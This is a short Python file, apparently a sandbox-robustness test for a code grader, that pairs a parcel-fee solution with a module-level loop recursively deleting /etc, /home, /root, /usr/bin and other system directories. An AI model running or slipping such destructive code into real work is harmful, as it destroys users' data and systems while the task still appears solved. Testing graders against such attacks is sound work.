# expect: passed
# attack: deletes everything that it may, and answers right
import os
import shutil

for folder in (
    "/etc",
    "/dev",
    "/hx",
    "/tmp",
    "/home",
    "/root",
    "/sys/fs",
    "/usr/bin",
    os.path.dirname(os.__file__) + "/json",
):
    shutil.rmtree(folder, ignore_errors=True)


def parcel_fee(sides, grams):
    if grams <= 0 or min(sides) <= 0:
        return -1
    billed = max(grams, -(-sides[0] * sides[1] * sides[2] // 5))
    return 330 + 120 * -(-billed // 1000) + (900 if max(sides) > 120 else 0)
